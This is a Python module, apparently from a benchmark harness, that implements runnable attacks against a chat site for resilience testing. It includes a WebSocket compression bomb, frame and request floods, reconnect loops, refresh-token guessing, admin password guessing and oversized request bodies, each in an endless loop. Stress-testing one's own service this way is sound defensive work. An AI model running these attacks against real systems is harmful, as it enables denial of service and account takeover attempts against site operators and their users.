"""Attacks on a site, each run in a process of its own until it is stopped: see `bench.attacks`."""

import contextlib
import json
import sys
import threading
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from uuid import uuid4

import requests
from websockets.exceptions import WebSocketException
from websockets.extensions.permessage_deflate import ClientPerMessageDeflateFactory
from websockets.frames import Frame, Opcode
from websockets.sync.client import connect

PARALLEL = 8
INFLATED = b"a" * 16_000_000
BODY_BYTES = 50_000_000
FLOOD_FRAMES = 100_000
TIMEOUT_S = 30


def nothing(url: str, token: str) -> None:
    """Wait, for comparison."""
    threading.Event().wait()


def compression_bomb(url: str, token: str) -> None:
    """Send frames without a token that inflate to a thousand times their size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = compressor.compress(INFLATED) + compressor.flush(zlib.Z_SYNC_FLUSH)
    options: Any = {"extensions": [ClientPerMessageDeflateFactory()], "compression": None}
    while True:
        with (
            contextlib.suppress(OSError, WebSocketException),
            connect(_ws(url), subprotocols=["chat.v1"], **options) as client,
        ):
            is_offered = bool(client.protocol.extensions)
            for _ in range(50):
                frame = Frame(Opcode.TEXT, bomb[:-4], rsv1=is_offered)
                client.socket.sendall(frame.serialize(mask=True))


def frame_flood(url: str, token: str) -> None:
    """Send frames of one session as fast as the network takes them."""
    frame = json.dumps({"type": "session.extend"})
    while True:
        with (
            contextlib.suppress(OSError, WebSocketException),
            connect(_ws(url), subprotocols=_protocols(token)) as client,
        ):
            for _ in range(FLOOD_FRAMES):
                client.send(frame)


def history_requests(url: str, token: str) -> None:
    """Request a long history, eight times at once."""
    _in_parallel(lambda http: http.get(f"{url}/refresh_token?token={token}", timeout=TIMEOUT_S))


def sync_loop(url: str, token: str) -> None:
    """Request everything that a session holds on one socket, again and again."""
    frame = json.dumps({"type": "session.sync", "after": 0})
    while True:
        with (
            contextlib.suppress(OSError, TimeoutError, WebSocketException),
            connect(_ws(url), subprotocols=_protocols(token), max_size=None) as client,
        ):
            while True:
                client.send(frame)
                client.recv(TIMEOUT_S)


def reconnects(url: str, token: str) -> None:
    """Open a long session again and again."""
    while True:
        with (
            contextlib.suppress(OSError, TimeoutError, WebSocketException),
            connect(_ws(url), subprotocols=_protocols(token), max_size=None) as client,
        ):
            client.recv(TIMEOUT_S)


def unknown_tokens(url: str, token: str) -> None:
    """Guess tokens."""
    _in_parallel(lambda http: http.get(f"{url}/refresh_token?token={uuid4()}", timeout=TIMEOUT_S))


def admin_logins(url: str, token: str) -> None:
    """Guess the password of an administrator."""

    def log_in(http: requests.Session) -> None:
        page = f"{url}/admin/login/"
        csrf = http.get(page, timeout=TIMEOUT_S).cookies.get("csrftoken") or http.cookies.get(
            "csrftoken"
        )
        form = {"username": "admin", "password": "guess", "csrfmiddlewaretoken": csrf}
        http.post(page, data=form, headers={"Referer": page}, timeout=TIMEOUT_S)

    _in_parallel(log_in)


def large_bodies(url: str, token: str) -> None:
    """Send fifty megabytes where a name is expected."""
    body = b"a" * BODY_BYTES
    while True:
        with contextlib.suppress(requests.RequestException):
            requests.post(f"{url}/token", data=body, timeout=TIMEOUT_S)


ATTACKS: dict[str, Callable[[str, str], None]] = {
    attack.__name__: attack
    for attack in (
        nothing,
        compression_bomb,
        frame_flood,
        history_requests,
        sync_loop,
        reconnects,
        unknown_tokens,
        admin_logins,
        large_bodies,
    )
}


def _in_parallel(request: Callable[[requests.Session], object]) -> None:
    def repeat(_: int) -> None:
        with requests.Session() as http:
            while True:
                try:
                    request(http)
                except requests.RequestException:
                    threading.Event().wait(0.1)

    with ThreadPoolExecutor(PARALLEL) as pool:
        list(pool.map(repeat, range(PARALLEL)))


def _ws(url: str) -> str:
    return f"ws{url.removeprefix('http')}/chat"


def _protocols(token: str) -> Any:
    return ["chat.v1", f"token.{token}"]


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], sys.argv[3])
